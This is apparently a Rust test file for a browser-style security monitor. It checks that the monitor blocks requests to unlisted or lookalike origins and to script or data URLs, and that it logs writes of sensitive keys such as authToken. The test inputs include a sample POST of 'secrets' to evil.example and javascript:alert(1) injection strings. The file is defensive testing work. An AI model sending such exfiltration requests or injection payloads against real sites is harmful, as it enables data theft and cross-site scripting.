use async_trait::async_trait;
use lilith_shield::engine_core::models::{FetchRequest, FetchResponse};
use lilith_shield::engine_core::traits::{KeyValueStore, Transport};
use lilith_shield::guards::MemoryStorage;
use lilith_shield::page::MemoryPage;
use lilith_shield::{ConfigOverrides, EventKind, SecurityConfig, SecurityMonitor, ShieldError};
use std::sync::{Arc, Mutex};

/// Transport that records what reaches it.
#[derive(Clone, Default)]
struct RecordingTransport {
    seen: Arc<Mutex<Vec<String>>>,
}

impl RecordingTransport {
    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

#[async_trait]
impl Transport for RecordingTransport {
    async fn fetch(&self, request: FetchRequest) -> Result<FetchResponse, ShieldError> {
        self.seen.lock().unwrap().push(request.url);
        Ok(FetchResponse::ok("{}"))
    }
}

fn active_monitor(config: SecurityConfig) -> SecurityMonitor {
    let mut page = MemoryPage::new();
    let mut monitor = SecurityMonitor::new(config).unwrap();
    monitor.initialize(&mut page);
    monitor
}

#[tokio::test]
async fn test_relative_request_forwarded() {
    let monitor = active_monitor(SecurityConfig::default());
    let inner = RecordingTransport::default();
    let transport = monitor.guard_transport(inner.clone());

    let response = transport.fetch(FetchRequest::get("/api/x")).await.unwrap();
    assert_eq!(response.status, 200);
    assert_eq!(inner.seen(), vec!["/api/x"]);
    assert!(monitor.security_events().is_empty());
}

#[tokio::test]
async fn test_unlisted_origin_blocked_once() {
    let monitor = active_monitor(SecurityConfig::default());
    let inner = RecordingTransport::default();
    let transport = monitor.guard_transport(inner.clone());

    let err = transport
        .fetch(FetchRequest::post("http://evil.example/x", "secrets"))
        .await
        .unwrap_err();

    assert!(err.is_blocked());
    assert!(inner.seen().is_empty());
    let events = monitor.security_events();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].kind(), EventKind::SuspiciousRequest);
    assert_eq!(
        events[0].details(),
        "Blocked suspicious request to: http://evil.example/x"
    );
}

#[tokio::test]
async fn test_script_scheme_blocked_on_allowed_origin() {
    let monitor = active_monitor(SecurityConfig::default());
    let transport = monitor.guard_transport(RecordingTransport::default());

    for url in [
        "http://localhost/?next=javascript:alert(1)",
        "http://localhost/<script>",
        "data:text/html,hi",
    ] {
        assert!(transport.fetch(FetchRequest::get(url)).await.is_err(), "{}", url);
    }
    assert_eq!(monitor.security_events().len(), 3);
}

#[tokio::test]
async fn test_allow_list_and_protocol_relative() {
    let monitor = active_monitor(SecurityConfig::default().apply(ConfigOverrides {
        allowed_origins: Some(vec!["api.example.com".to_string()]),
        ..ConfigOverrides::default()
    }));
    let inner = RecordingTransport::default();
    let transport = monitor.guard_transport(inner.clone());

    assert!(transport
        .fetch(FetchRequest::get("https://api.example.com:8443/v1"))
        .await
        .is_ok());
    assert!(transport
        .fetch(FetchRequest::get("https://api.example.com.evil.io/v1"))
        .await
        .is_err());
    assert!(transport
        .fetch(FetchRequest::get("//evil.io/x"))
        .await
        .is_err());
    assert_eq!(inner.seen(), vec!["https://api.example.com:8443/v1"]);
}

#[tokio::test]
async fn test_disarmed_guard_forwards_everything() {
    let mut page = MemoryPage::new();
    let mut monitor = SecurityMonitor::new(SecurityConfig::default()).unwrap();
    let inner = RecordingTransport::default();
    let transport = monitor.guard_transport(inner.clone());

    // Not yet initialized
    assert!(transport.fetch(FetchRequest::get("http://evil.example/")).await.is_ok());

    monitor.initialize(&mut page);
    assert!(transport.fetch(FetchRequest::get("http://evil.example/")).await.is_err());

    monitor.cleanup(&mut page);
    assert!(transport.fetch(FetchRequest::get("http://evil.example/")).await.is_ok());
    assert_eq!(inner.seen().len(), 2);
}

#[tokio::test]
async fn test_network_guard_off_by_config() {
    let monitor = active_monitor(SecurityConfig {
        enable_network_security: false,
        ..SecurityConfig::default()
    });
    let transport = monitor.guard_transport(RecordingTransport::default());
    assert!(transport.fetch(FetchRequest::get("javascript:alert(1)")).await.is_ok());
}

#[test]
fn test_sensitive_write_persisted_and_logged() {
    let monitor = active_monitor(SecurityConfig::default());
    let mut storage = monitor.guard_storage(MemoryStorage::new());

    storage.set_item("authToken", "abc123").unwrap();
    storage.set_item("theme", "dark").unwrap();

    assert_eq!(storage.get_item("authToken").as_deref(), Some("abc123"));
    let events = monitor.security_events();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].kind(), EventKind::SensitiveStorage);
    assert_eq!(events[0].details(), "Sensitive data stored with key: authToken");
}

#[test]
fn test_quota_error_still_logged() {
    let monitor = active_monitor(SecurityConfig::default());
    let mut storage = monitor.guard_storage(MemoryStorage::with_quota(8));

    let err = storage.set_item("password", "too-long-to-fit").unwrap_err();
    assert!(matches!(err, ShieldError::Storage(_)));
    assert_eq!(monitor.security_events().len(), 1);
    assert!(storage.is_empty());
}
